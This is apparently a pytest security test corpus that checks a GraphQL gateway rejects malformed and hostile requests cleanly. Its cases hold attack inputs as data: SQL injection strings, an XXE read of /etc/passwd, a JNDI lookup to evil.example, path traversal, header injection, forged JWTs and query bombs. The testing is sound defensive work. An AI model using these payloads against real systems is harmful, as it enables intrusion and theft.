"""The bad-input corpus: every case gets a clear error, none a 5xx, and nothing is written.

Each case is one HTTP request against the real app (view, middleware, extensions)
serving the guarded test schema. For every case: the status is below 500 and in
the case's expected set, the body is JSON with at least one error message (and
the expected ``extensions.code`` where the case names one), nothing looks like a
stack trace, and the access log and the registry have no new rows.
"""

from __future__ import annotations

import base64
import json
import time
from dataclasses import dataclass, field
from typing import Any

import jwt
import pytest

from domain.principal import Role
from gateway.auth import DEMO_SECRET
from tests.security.conftest import ACME, BETA, P1, P3, SecureHub

_UNSET: Any = object()


def _token(role: str = "WINDOW_STAFF", key: str = DEMO_SECRET, alg: str = "HS256", **extra: Any) -> str:
    now = int(time.time())
    claims = {
        "sub": "attacker",
        "role": role,
        "iss": "onematter-hub",
        "aud": "onematter",
        "iat": now,
        "exp": now + 600,
        **extra,
    }
    return jwt.encode({k: v for k, v in claims.items() if v is not None}, key, algorithm=alg)


def _b64(obj: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()


def _edited(token: str, **changes: Any) -> str:
    """The same token with its claims edited and the old signature kept."""
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims.update(changes)
    return f"{header}.{_b64({k: v for k, v in claims.items() if v is not None})}.{signature}"


def _alg_none(**claims: Any) -> str:
    now = int(time.time())
    body = {
        "sub": "attacker",
        "role": "ADMIN",
        "iss": "onematter-hub",
        "aud": "onematter",
        "iat": now,
        "exp": now + 600,
        **claims,
    }
    return f"{_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64(body)}."


MATTER_VAR = "query($c: String!) { matter(projectCode: $c) { name } }"
ENTERPRISE_VAR = "query($c: String!) { enterprise(creditCode: $c) { name } }"


@dataclass(frozen=True)
class Case:
    id: str
    query: str | None = None
    variables: Any = _UNSET
    body: Any = _UNSET  # a JSON body instead of {query, variables}
    content: bytes | None = None  # raw bytes instead of JSON
    content_type: str | None = "application/json"
    method: str = "POST"
    params: dict[str, str] | None = None  # GET query string
    headers: dict[str, str] = field(default_factory=dict)
    role: Role | None = None
    token: str | None = None  # a raw (forged) bearer token
    status: tuple[int, ...] = (200, 400)
    code: str | None = None  # the expected extensions.code of the first error


def _deep(levels: int) -> str:
    inner = "name"
    for i in range(levels):
        inner = ("enterprise { " if i % 2 == 0 else "projects { ") + inner + " }"
    return f'{{ matter(projectCode: "{P1}") {{ {inner} }} }}'


def _fragment_bomb(levels: int) -> str:
    parts = ["fragment F0 on Query { a: approvalGuide }"]
    parts += [f"fragment F{i} on Query {{ ...F{i - 1} ...F{i - 1} }}" for i in range(1, levels)]
    return f"{{ ...F{levels - 1} }} " + " ".join(parts)


CASES: list[Case] = [
    # -- malformed requests ------------------------------------------------------------------
    Case("json-truncated", content=b'{"query": "{ approvalGuide }"'),
    Case("json-trailing-garbage", content=b'{"query": "{ approvalGuide }"} xyz'),
    Case("json-array-of-numbers", content=b"[1, 2, 3]"),
    Case("json-string", content=b'"{ approvalGuide }"'),
    Case("json-null", content=b"null"),
    Case("json-number", content=b"42"),
    Case("json-empty-body", content=b""),
    Case("json-invalid-utf8", content=b'{"query": "{ approvalGuide \xff\xfe }"}'),
    Case("json-nan", content=b'{"query": "{ approvalGuide }", "variables": {"x": NaN}}'),
    Case(
        "json-deeply-nested",
        content=b'{"query": "{ approvalGuide }", "variables": ' + b"[" * 100_00 + b"]" * 100_00 + b"}",
        status=(200, 400, 413),
    ),
    Case("query-not-a-string", body={"query": 42}),
    Case("query-a-list", body={"query": ["{ approvalGuide }"]}),
    Case("variables-not-an-object", body={"query": "{ approvalGuide }", "variables": "x"}),
    Case("operation-name-not-a-string", body={"query": "{ approvalGuide }", "operationName": 7}),
    Case("extensions-not-an-object", body={"query": "{ approvalGuide }", "extensions": []}),
    Case("no-query-at-all", body={"variables": {}}),
    Case("batch-of-operations", body=[{"query": "{ approvalGuide }"}, {"query": "{ approvalGuide }"}]),
    # -- wrong content types and methods -----------------------------------------------------------
    Case(
        "content-type-text-plain",
        content=b'{"query": "{ approvalGuide }"}',
        content_type="text/plain",
        status=(415, 400),
    ),
    Case(
        "content-type-form",
        content=b"query=%7B+approvalGuide+%7D",
        content_type="application/x-www-form-urlencoded",
        status=(415, 400),
    ),
    Case(
        "content-type-multipart",
        content=b"--x\r\n\r\n--x--",
        content_type="multipart/form-data; boundary=x",
        status=(415, 400),
    ),
    Case(
        "content-type-xml",
        content=b"<query>{ approvalGuide }</query>",
        content_type="application/xml",
        status=(415, 400),
    ),
    Case(
        "content-type-latin1-charset",
        content=b'{"query": "{ approvalGuide }"}',
        content_type="application/json; charset=latin-1",
        status=(415, 400),
    ),
    Case(
        "content-type-missing",
        content=b'{"query": "{ approvalGuide }"}',
        content_type=None,
        status=(415, 400),
    ),
    Case("accept-only-csv", query="{ approvalGuide }", headers={"Accept": "text/csv"}, status=(406,)),
    Case("method-put", method="PUT", content=b'{"query": "{ approvalGuide }"}', status=(405,)),
    Case("method-delete", method="DELETE", status=(405,)),
    Case(
        "mutation-over-get",
        method="GET",
        params={"query": 'mutation { cancelItem(code: "X", reason: "r") }'},
        role=Role.ADMIN,
        status=(405,),
    ),
    # -- sizes ---------------------------------------------------------------------------------------
    Case(
        "oversized-body",
        body={"query": "{ approvalGuide }", "variables": {"pad": "x" * 200_000}},
        status=(413,),
        code="PAYLOAD_TOO_LARGE",
    ),
    Case(
        "oversized-argument",
        query=MATTER_VAR,
        variables={"c": "2023-" + "9" * 100_000},
        status=(413,),
        code="PAYLOAD_TOO_LARGE",
    ),
    Case(
        "oversized-url",
        method="GET",
        params={"query": "{ approvalGuide }", "pad": "x" * 20_000},
        status=(414,),
        code="URL_TOO_LONG",
    ),
    Case(
        "content-length-not-a-number",
        content=b'{"query": "{ approvalGuide }"}',
        headers={"Content-Length": "12abc"},
        status=(400,),
        code="BAD_REQUEST",
    ),
    Case("too-many-tokens", query="{ " + "approvalGuide " * 2_500 + "}", code="QUERY_TOO_COMPLEX"),
    Case("too-many-fields", query="{ " + " ".join(f"f{i}: approvalGuide" for i in range(1_200)) + " }"),
    # -- documents -------------------------------------------------------------------------------------
    Case("syntax-error", query="{ matter(projectCode: "),
    Case("empty-document", query=""),
    Case("only-a-comment", query="# nothing here"),
    Case("unbalanced-braces", query="{ approvalGuide }}}"),
    Case("nested-braces", query="{" * 900 + "}" * 900),
    Case("unknown-field", query="{ secretAdminPanel }", role=Role.ADMIN),
    Case(
        "unknown-argument",
        query=f'{{ matter(projectCode: "{P1}", sql: "1") {{ name }} }}',
        role=Role.WINDOW_STAFF,
    ),
    Case("missing-argument", query="{ matter { name } }", role=Role.WINDOW_STAFF),
    Case("argument-wrong-type", query='{ matters(first: "ten") { name } }', role=Role.WINDOW_STAFF),
    Case(
        "argument-int-overflow",
        query="{ matters(first: 99999999999999999999) { name } }",
        role=Role.WINDOW_STAFF,
    ),
    Case(
        "argument-negative",
        query="{ matters(first: -1) { name } }",
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case("argument-null-for-required", query=MATTER_VAR, variables={"c": None}, role=Role.WINDOW_STAFF),
    Case("variable-wrong-type", query=MATTER_VAR, variables={"c": {"$gt": ""}}, role=Role.WINDOW_STAFF),
    Case(
        "variable-undeclared",
        query="{ matter(projectCode: $c) { name } }",
        variables={"c": P1},
        role=Role.WINDOW_STAFF,
    ),
    Case("variable-missing", query=MATTER_VAR, variables={}, role=Role.WINDOW_STAFF),
    Case("two-anonymous-operations", query="{ approvalGuide } { approvalGuide }"),
    Case("unknown-operation-name", body={"query": "query A { approvalGuide }", "operationName": "B"}),
    Case("duplicate-operation-names", query="query A { approvalGuide } query A { approvalGuide }"),
    Case("subscription", query="subscription { approvalGuide }"),
    Case("unknown-directive", query='{ approvalGuide @drop(table: "access_log") }'),
    Case("selection-on-scalar", query="{ approvalGuide { length } }"),
    Case("missing-selection-on-object", query=f'{{ matter(projectCode: "{P1}") }}', role=Role.WINDOW_STAFF),
    # -- depth, aliases, fragments, cost ----------------------------------------------------------------
    Case("deeply-nested-query", query=_deep(30), role=Role.WINDOW_STAFF),
    Case("alias-bomb", query="{ " + " ".join(f"a{i}: approvalGuide" for i in range(100)) + " }"),
    Case(
        "alias-bomb-on-matters",
        query="{ " + " ".join(f"m{i}: matters(first: 100) {{ name }}" for i in range(50)) + " }",
        role=Role.WINDOW_STAFF,
    ),
    Case(
        "repeated-field-bomb",
        query="{ " + " ".join(f'matter(projectCode: "{P1}") {{ name }}' for _ in range(100)) + " }",
        role=Role.WINDOW_STAFF,
        code="QUERY_TOO_COMPLEX",
    ),
    Case("fragment-bomb", query=_fragment_bomb(25), code="QUERY_TOO_COMPLEX"),
    Case("circular-fragments", query="{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }"),
    Case("self-referencing-fragment", query="{ ...A } fragment A on Query { approvalGuide ...A }"),
    Case(
        "circular-fragments-nested",
        query=f'{{ matter(projectCode: "{P1}") {{ ...P }} }} '
        "fragment P on Project { enterprise { ...E } } fragment E on Enterprise { projects { ...P } }",
        role=Role.WINDOW_STAFF,
    ),
    Case("unknown-fragment", query="{ ...Nowhere }"),
    Case("fragment-on-wrong-type", query="{ ...F } fragment F on Project { name }"),
    Case(
        "costly-page",
        query="{ matters(first: 100000) { stages { items { code status } } } }",
        role=Role.WINDOW_STAFF,
        code="QUERY_TOO_COSTLY",
    ),
    Case(
        "introspection-depth",
        query="{ __schema { types { fields { type { ofType { ofType { ofType { ofType "
        "{ ofType { ofType { ofType { name } } } } } } } } } } }",
    ),
    # -- identifiers and injection strings in arguments ---------------------------------------------------
    Case(
        "project-code-garbage",
        query=MATTER_VAR,
        variables={"c": "abc"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "project-code-wrong-division",
        query=MATTER_VAR,
        variables={"c": "2023-110000-47-03-000001"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "credit-code-bad-check",
        query=ENTERPRISE_VAR,
        variables={"c": "91350200776049653B"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "credit-code-forbidden-letters",
        query=ENTERPRISE_VAR,
        variables={"c": "91350200776O4965SA"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "sql-injection-or",
        query=MATTER_VAR,
        variables={"c": f"{P1}' OR '1'='1"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "sql-injection-drop",
        query=MATTER_VAR,
        variables={"c": "'; DROP TABLE access_log; --"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "sql-injection-union",
        query=ENTERPRISE_VAR,
        variables={"c": "x' UNION SELECT hash FROM access_log --"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "sql-injection-inline",
        query=f'{{ matter(projectCode: "{P1}\\" OR 1=1 --") {{ name }} }}',
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "xml-external-entity",
        query=MATTER_VAR,
        variables={
            "c": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        },
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "xml-billion-laughs",
        query=MATTER_VAR,
        variables={"c": '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "header-crlf-in-argument",
        query=MATTER_VAR,
        variables={"c": f"{P1}\r\nX-Injected: 1"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "nul-byte-in-argument",
        query=MATTER_VAR,
        variables={"c": f"{P1}\x00"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "path-traversal",
        query=MATTER_VAR,
        variables={"c": "../../../../etc/passwd"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "jndi-lookup",
        query=ENTERPRISE_VAR,
        variables={"c": "${jndi:ldap://evil.example/a}"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "unicode-lookalike-digits",
        query=MATTER_VAR,
        variables={"c": "２０２３-430472-47-03-000001"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "trailing-newline",
        query=MATTER_VAR,
        variables={"c": P1 + "\n"},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    Case(
        "rtl-override",
        query=ENTERPRISE_VAR,
        variables={"c": "\u202e" + ACME[:17]},
        role=Role.WINDOW_STAFF,
        code="BAD_USER_INPUT",
    ),
    # -- tokens --------------------------------------------------------------------------------------------
    Case(
        "token-wrong-signature",
        query="{ sources }",
        token=_token(key="not-the-secret-not-the-secret-xxxxxx"),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "token-expired",
        query="{ sources }",
        token=_token(role="INTEGRATOR", iat=int(time.time()) - 7200, exp=int(time.time()) - 3600),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "token-not-yet-valid",
        query="{ sources }",
        token=_token(role="INTEGRATOR", nbf=int(time.time()) + 3600),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "token-alg-none",
        query="{ accessLog { entries { id } } }",
        token=_alg_none(role="AUDITOR"),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "token-garbage", query="{ sources }", token="eyJ.garbage.here", status=(401,), code="UNAUTHENTICATED"
    ),
    Case(
        "token-unknown-role",
        query="{ sources }",
        token=_token(role="ROOT"),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "token-basic-scheme",
        query="{ sources }",
        headers={"Authorization": "Basic YWRtaW46YWRtaW4="},
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "escalate-enterprise-to-admin",
        query='mutation { cancelItem(code: "X", reason: "r") }',
        token=_edited(_token(role="ENTERPRISE", credit_code=ACME), role="ADMIN", credit_code=None),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "escalate-agent-adds-project",
        query=MATTER_VAR,
        variables={"c": P1},
        token=_edited(_token(role="AGENT", projects=[P3]), projects=[P3, P1]),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "escalate-enterprise-switches-credit-code",
        query=MATTER_VAR,
        variables={"c": P3},
        token=_edited(_token(role="ENTERPRISE", credit_code=ACME), credit_code=BETA),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    Case(
        "escalate-extends-expiry",
        query="{ sources }",
        token=_edited(
            _token(role="INTEGRATOR", iat=int(time.time()) - 7200, exp=int(time.time()) - 3600),
            exp=int(time.time()) + 3600,
        ),
        status=(401,),
        code="UNAUTHENTICATED",
    ),
    # -- asking for what is not yours ------------------------------------------------------------------------
    # An ENTERPRISE asking for another enterprise's project gets null, as for an unknown
    # code, not an error: tests/security/test_no_oracle.py.
    Case(
        "enterprise-asks-for-another-enterprise",
        query=ENTERPRISE_VAR,
        variables={"c": BETA},
        role=Role.ENTERPRISE,
        code="FORBIDDEN",
    ),
    Case(
        "agent-asks-for-unassigned-project",
        query=MATTER_VAR,
        variables={"c": P1},
        role=Role.AGENT,
        code="FORBIDDEN",
    ),
    Case("anonymous-asks-for-a-matter", query=MATTER_VAR, variables={"c": P1}, code="FORBIDDEN"),
    Case("anonymous-mutation", query='mutation { cancelItem(code: "X", reason: "r") }', code="FORBIDDEN"),
    Case(
        "anonymous-federation-entities",
        query='{ _entities(representations: [{__typename: "Project"}]) { __typename } }',
        code="FORBIDDEN",
    ),
    # ... nor for its entity (_entities): null, as for an unknown code (test_no_oracle.py).
    Case(
        "anonymous-hides-field-in-fragment",
        query="{ ...F } fragment F on Query { accessLog { entries { id } } }",
        code="FORBIDDEN",
    ),
    Case(
        "window-staff-mutation",
        query='mutation { cancelItem(code: "X", reason: "r") }',
        role=Role.WINDOW_STAFF,
        code="FORBIDDEN",
    ),
    Case(
        "auditor-mutation",
        query='mutation { cancelItem(code: "X", reason: "r") }',
        role=Role.AUDITOR,
        code="FORBIDDEN",
    ),
    Case(
        "integrator-reads-access-log",
        query="{ accessLog { entries { principal } } }",
        role=Role.INTEGRATOR,
        code="FORBIDDEN",
    ),
    Case(
        "token-in-query-string",
        method="GET",
        params={"query": "{ sources }", "access_token": _token("INTEGRATOR")},
        code="FORBIDDEN",
    ),
    Case(
        "case-number-header-injection",
        query=MATTER_VAR,
        variables={"c": "x"},
        role=Role.WINDOW_STAFF,
        headers={"X-Case-Number": "HY-1; DROP TABLE access_log"},
        code="BAD_USER_INPUT",
    ),
]


def test_the_corpus_has_at_least_60_cases() -> None:
    assert len(CASES) >= 60
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.fixture
def no_env_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ONEMATTER_AUTH_SECRET", raising=False)


async def _send(hub: SecureHub, case: Case) -> Any:
    headers = {"Accept": "application/json"}
    if case.content_type is not None:
        headers["Content-Type"] = case.content_type
    if case.token is not None:
        headers["Authorization"] = f"Bearer {case.token}"
    elif case.role is not None:
        headers["Authorization"] = f"Bearer {hub.token(case.role)}"
    headers.update(case.headers)
    if case.method == "GET":
        return await hub.client.get("/graphql", params=case.params, headers=headers)
    if case.content is not None:
        content = case.content
    else:
        body = case.body
        if body is _UNSET:
            body = {"query": case.query}
            if case.variables is not _UNSET:
                body["variables"] = case.variables
        content = json.dumps(body).encode()
    return await hub.client.request(case.method, "/graphql", content=content, headers=headers)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
async def test_bad_input(secure_hub: SecureHub, no_env_secret: None, case: Case) -> None:
    before = await secure_hub.counts()
    response = await _send(secure_hub, case)
    assert response.status_code < 500, response.text[:500]
    assert response.status_code in case.status, (response.status_code, response.text[:500])
    body = response.json()
    errors = body["errors"]
    assert errors and all(isinstance(e.get("message"), str) and e["message"] for e in errors)
    if case.code is not None:
        assert errors[0].get("extensions", {}).get("code") == case.code, errors[0]
    for leak in ("Traceback", 'File "/', "sqlalchemy", "Exception:"):
        assert leak not in response.text
    assert await secure_hub.counts() == before, "a bad request wrote something"
